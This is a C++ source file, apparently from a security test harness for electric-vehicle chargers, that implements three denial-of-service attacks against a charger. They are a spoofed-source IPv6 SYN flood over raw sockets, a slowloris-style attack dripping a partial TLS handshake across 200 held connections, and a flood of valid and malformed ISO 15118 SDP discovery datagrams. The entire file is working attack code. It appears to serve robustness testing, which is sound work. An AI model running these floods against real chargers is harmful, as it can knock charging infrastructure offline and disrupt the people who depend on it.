// SPDX-License-Identifier: Apache-2.0
#include "a20_floods/cable_floods.hpp"

#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <cstring>
#include <vector>

#include "base/clock.hpp"

namespace voltkeep::attacks {

namespace {

constexpr int discovery_port = 15118;

sockaddr_in6 address_of(const Charger& charger, int port) {
    sockaddr_in6 address{};
    address.sin6_family = AF_INET6;
    address.sin6_port = htons(static_cast<std::uint16_t>(port));
    address.sin6_scope_id = ::if_nametoindex(charger.interface.c_str());
    ::inet_pton(AF_INET6, charger.address.c_str(), &address.sin6_addr);
    return address;
}

struct Segment {
    ip6_hdr ip{};
    tcphdr tcp{};
};

std::uint16_t checksum_of(const Segment& s) {
    std::uint32_t sum = 0;
    const auto add = [&sum](const void* data, std::size_t size) {
        for (std::size_t i = 0; i < size; i += 2) {
            std::uint16_t word = 0;
            std::memcpy(&word, static_cast<const char*>(data) + i, 2);
            sum += word;
        }
    };
    add(&s.ip.ip6_src, 16);
    add(&s.ip.ip6_dst, 16);
    sum += htons(sizeof s.tcp) + htons(IPPROTO_TCP);
    add(&s.tcp, sizeof s.tcp);
    while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
    return static_cast<std::uint16_t>(~sum);
}

}  // namespace

void flood_with_syn(const Charger& charger) {
    const int raw = ::socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
    sockaddr_in6 to = address_of(charger, 0);
    Segment segment;
    segment.ip.ip6_flow = htonl(6u << 28);
    segment.ip.ip6_plen = htons(sizeof segment.tcp);
    segment.ip.ip6_nxt = IPPROTO_TCP;
    segment.ip.ip6_hlim = 255;
    segment.ip.ip6_dst = to.sin6_addr;
    segment.tcp.dest = htons(static_cast<std::uint16_t>(charger.port));
    segment.tcp.doff = 5;
    segment.tcp.syn = 1;
    segment.tcp.window = htons(64240);
    int sent = 0;
    const Instant end = now() + 3s;
    for (std::uint32_t i = 0; i < 20'000 && now() < end; ++i) {
        const std::array<std::uint32_t, 4> from{htonl(0xfe80'0000), 0, htonl(0x0a20'0000), htonl(i + 1)};
        std::memcpy(&segment.ip.ip6_src, from.data(), sizeof from);
        segment.tcp.source = htons(static_cast<std::uint16_t>(1024 + i % 60'000));
        segment.tcp.seq = htonl(i * 2'654'435'761u);
        segment.tcp.check = 0;
        segment.tcp.check = checksum_of(segment);
        if (::sendto(raw, &segment, sizeof segment, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) == sizeof segment)
            ++sent;
    }
    ::close(raw);
    std::printf("%d SYN\n", sent);
    std::fflush(stdout);
}

void drip_into_connections(const Charger& charger) {
    const rlimit many{512, 512};
    ::setrlimit(RLIMIT_NOFILE, &many);
    const sockaddr_in6 to = address_of(charger, charger.port);
    std::vector<int> sockets;
    int refused = 0;
    for (int i = 0; i < 200; ++i) {
        const int socket = ::socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (::connect(socket, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0 || errno == EINPROGRESS)
            sockets.push_back(socket);
        else ++refused;
    }
    constexpr unsigned char hello[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01,
                                       0x00, 0x01, 0xfc, 0x03, 0x03};  // and 500 octets that never come
    int octets = 0, ended = 0;
    for (std::size_t turn = 0; turn < 30; ++turn) {
        for (int& socket : sockets) {
            if (socket < 0) continue;
            const unsigned char octet = turn < sizeof hello ? hello[turn] : 0;
            if (::send(socket, &octet, 1, MSG_NOSIGNAL) == 1) ++octets;
            else if (errno != EAGAIN) {
                ::close(socket);
                socket = -1;
                ++ended;
            }
        }
        ::usleep(100'000);   // this is the attack: slowly
    }
    std::printf("%zu slow connections, %d refused at once, %d ended by the charger, %d octets\n", sockets.size(), refused, ended,
                octets);
    std::fflush(stdout);
}

void flood_discovery(const Charger& charger) {
    const int socket = ::socket(AF_INET6, SOCK_DGRAM, 0);
    const sockaddr_in6 to = address_of(charger, discovery_port);
    constexpr unsigned char request[] = {0x01, 0xfe, 0x90, 0x00, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00};   // SDP: TLS, TCP
    int sent = 0;
    const Instant end = now() + 3s;
    for (int i = 0; i < 20'000 && now() < end; ++i) {
        std::array<unsigned char, 200> datagram{};
        std::memcpy(datagram.data(), request, sizeof request);
        const std::size_t size = i % 2 == 0 ? sizeof request : 1 + static_cast<std::size_t>(i) % datagram.size();
        if (i % 2 != 0) datagram[7] = static_cast<unsigned char>(i);
        if (::sendto(socket, datagram.data(), size, MSG_DONTWAIT, reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0) ++sent;
    }
    ::close(socket);
    std::printf("%d SDP datagrams\n", sent);
    std::fflush(stdout);
}

}  // namespace voltkeep::attacks
